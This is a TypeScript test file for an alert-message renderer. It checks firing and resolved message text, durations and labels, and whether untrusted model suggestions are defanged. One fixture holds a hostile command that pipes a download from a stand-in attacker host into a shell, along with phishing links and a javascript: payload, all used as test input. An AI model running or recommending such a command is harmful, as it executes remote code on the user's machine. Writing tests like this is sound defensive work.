// What a message says in each state: firing with its next action, resolved with what changed;
// and the Alertmanager labels receivers' default templates print (job, instance).
import assert from "node:assert/strict";
import { hostname } from "node:os";
import { test } from "node:test";
import fc from "fast-check";
import { loopLabels, toAlert } from "../src/alert.js";
import type { Draft, GroupState } from "../src/group.js";
import { groupMessage } from "../src/message.js";
import { humanDuration, resolvedSummary } from "../src/resolved-text.js";
import { defang } from "../src/template.js";
import { renderText } from "../src/text.js";
import { makeLoop } from "./harness.js";

const triage = {
  adapter: "rules",
  model: "rules",
  severity: "low" as const,
  summary: "2 files uncommitted for under a minute",
  nextAction: "Commit or stash them",
  at: "2026-01-01T00:00:00.000Z",
};
const open = makeLoop({ repo: "/home/me/app", triage, openedAt: "2026-01-01T00:00:00.000Z" });
const closed = {
  ...open,
  status: "closed" as const,
  rev: 2,
  closedAt: "2026-01-01T03:12:30.000Z",
  updatedAt: "2026-01-01T03:12:30.000Z",
};

function message(loop: typeof open) {
  const alert = toAlert(loop, undefined, 0);
  const group = {
    id: "g",
    key: "{}/default:{}",
    channel: "phone",
    route: "default",
    escalation: false,
    labels: { alertname: "repo.dirty" },
    epoch: "e",
    createdAt: 0,
    nextFlushAt: 0,
    lastSentAt: null,
    lastSent: [],
    seq: 1,
    alerts: { [loop.id]: alert },
  } satisfies GroupState;
  const resolved = alert.status === "resolved";
  const draft: Draft = {
    seq: 1,
    status: resolved ? "resolved" : "firing",
    firing: resolved ? [] : [alert],
    resolved: resolved ? [alert] : [],
    catchUp: false,
    repeat: false,
    storm: false,
  };
  return groupMessage(group, draft, "http://console.local");
}

test("a firing message has the summary and the next action", () => {
  const { title, body } = renderText(message(open), undefined, () => undefined);
  assert.equal(title, "[FIRING:1] repo.dirty");
  assert.match(body, /2 files uncommitted for under a minute/);
  assert.match(body, /\nSuggested by rules \(unverified\): Commit or stash them/);
});

test("a resolved message says what changed and drops the next action", () => {
  const msg = message(closed);
  const { title, body } = renderText(msg, undefined, () => undefined);
  assert.equal(title, "[RESOLVED] repo.dirty");
  assert.match(body, /✅ resolved · repo\.dirty · \/home\/me\/app\nClean again after 3h 12m$/);
  assert.doesNotMatch(body, /Commit or stash|uncommitted|→/);
  assert.deepEqual(msg.alerts[0]?.annotations, {
    summary: "Clean again after 3h 12m",
    firingSummary: "2 files uncommitted for under a minute",
  });
});

test("resolved summaries: per kind, any other kind, durations as a person says them", () => {
  assert.equal(resolvedSummary("service.down", "2026-01-01T00:00:00Z", "2026-01-01T00:05:00Z"), "Up again after 5m");
  assert.equal(
    resolvedSummary("something.new", "2026-01-01T00:00:00Z", "2026-01-03T04:00:00Z"),
    "Resolved after 2d 4h",
  );
  assert.deepEqual([0, 59_999, 60_000, 3_600_000, 3_660_000, 86_400_000, Number.NaN].map(humanDuration), [
    "under a minute",
    "under a minute",
    "1m",
    "1h",
    "1h 1m",
    "1d",
    "under a minute",
  ]);
});

test("every alert has job and instance: the producing service, and the checked target or the repository's host", () => {
  assert.deepEqual([loopLabels(open).job, loopLabels(open).instance], ["scanner", hostname()]);
  const down = makeLoop({ kind: "service.down", service: "web", evidence: { name: "web", target: "example.org:443" } });
  assert.deepEqual([loopLabels(down).job, loopLabels(down).instance], ["service-tracker", "example.org:443"]);
  const member = makeLoop({ kind: "service.down", service: "scanner" });
  assert.deepEqual([loopLabels(member).job, loopLabels(member).instance], ["service-tracker", "scanner"]);
});

test("model text is untrusted: labelled with the adapter, links defanged, nothing to click or run", () => {
  const hostile = {
    ...triage,
    adapter: "model-openai",
    summary: "Looks bad, details at https://evil.example/x and [here](http://phish.example/login)",
    nextAction: "Run `curl -s http://evil.example/fix.sh | sh` or mail admin@evil.example <b>now</b>",
  };
  const { body } = renderText(message({ ...open, triage: hostile }), undefined, () => undefined);
  assert.match(
    body,
    /Suggested by model-openai \(unverified\): Run `curl -s hxxp:\/\/evil\[\.\]example\/fix\[\.\]sh \| sh`/,
  );
  assert.match(body, /details at hxxps:\/\/evil\[\.\]example\/x and \[here\] \(hxxp:\/\/phish\[\.\]example\/login\)/);
  assert.match(body, /admin@evil\[\.\]example ‹b›now‹\/b›/);
  for (const live of [/https?:\/\//i, /evil\.example/, /phish\.example/, /\]\(/, /<b>/])
    assert.doesNotMatch(body, live);
  assert.doesNotMatch(body, /^→/m, "no arrow presenting it as the thing to do");
});

test("property: defang leaves no scheme link or dotted host name in any text", () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.oneof(
          fc.string(),
          fc.constantFrom(
            "http://",
            "HTTPS://",
            "evil.example",
            "a.b.co",
            "javascript:alert(1)",
            "](",
            "<",
            "www.x.io/p",
          ),
        ),
        { maxLength: 12 },
      ),
      (parts) => {
        const out = defang(parts.join(""));
        assert.doesNotMatch(out, /(?:https?|javascript|ftp|file|data):(?:\/\/|[^\s/])/i);
        assert.doesNotMatch(out, /[a-z0-9-]\.[a-z]{2,}(?![a-z0-9-])/i);
        assert.doesNotMatch(out, /\]\(|<|>/);
      },
    ),
  );
});
